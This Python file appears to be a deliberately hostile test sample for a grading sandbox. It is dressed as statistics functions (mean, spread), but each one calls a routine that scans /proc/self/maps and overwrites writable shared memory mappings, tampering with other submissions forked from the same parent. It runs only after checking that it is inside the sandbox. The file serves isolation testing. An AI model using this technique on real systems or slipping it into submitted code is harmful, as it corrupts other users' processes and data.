"""Writes into every mapping that is shared with the process it was forked from, for whoever is forked next.

Attacks: W8, W17, C6
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import ctypes
import mmap


def deed():
    with open("/proc/self/maps") as maps:
        for line in maps:
            place, rights, *rest = line.split()
            if rights[1] != "w" or rights[3] != "s":
                continue
            start, end = (int(part, 16) for part in place.split("-"))
            if ctypes.string_at(start, 6) == b"@NUMBER@":
                print("WON: another student was here", flush=True)
            print("WON: a mapping that is shared:", *rest[-1:], flush=True)
            ctypes.memset(start, 0x2A, min(end - start, 64))
    own = mmap.mmap(-1, 1 << 16)  # shared with its own children only
    own.write(b"left behind")


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    deed()
    return 0.0
